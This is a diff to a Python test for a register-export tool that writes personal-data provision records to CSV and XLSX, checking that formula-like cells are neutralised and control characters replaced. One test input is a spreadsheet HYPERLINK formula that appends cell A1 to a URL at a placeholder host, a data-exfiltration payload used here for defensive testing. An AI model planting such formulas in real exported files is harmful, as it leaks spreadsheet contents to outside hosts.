@@ -328,16 +328,18 @@ def test_the_csv_is_utf8_with_a_bom_crlf_and_rfc4180_quoting(repository: Path) -
 def test_a_cell_a_spreadsheet_would_take_for_a_formula_is_written_as_text(repository: Path) -> None:
     formula = yaml.safe_load(MINIMAL)
     formula["title"] = '=HYPERLINK("http://example.invalid/?"&A1,"外部提供")について'
-    formula["external_provision"]["recipient"] = "+81 株式会社A"
+    formula["external_provision"]["recipient"] = "+81 株式会社A\x01"
     (repository / "cases" / "formula.yaml").write_text(dump(formula), encoding="utf-8")
     assert report("cases/formula.yaml", "-o", "register.csv", cwd=repository).code == 0
     [row] = read_csv(repository / "register.csv")[1:]
     assert row[4] == """'=HYPERLINK("http://example.invalid/?"&A1,"外部提供")について"""
-    assert row[8] == "'+81 株式会社A"
+    assert row[8] == "'+81 株式会社A\x01"
     assert report("cases/formula.yaml", "-o", "register.xlsx", cwd=repository).code == 0
     sheet = openpyxl.load_workbook(repository / "register.xlsx")["一覧"]
     assert sheet["E2"].data_type == "s"
     assert sheet["E2"].value == '=HYPERLINK("http://example.invalid/?"&A1,"外部提供")について'
+    # A control character that an xlsx cannot hold is replaced, not refused.
+    assert sheet["I2"].value == "+81 株式会社A\ufffd"
 
 
 def test_the_json_is_the_long_table_as_objects(repository: Path) -> None:
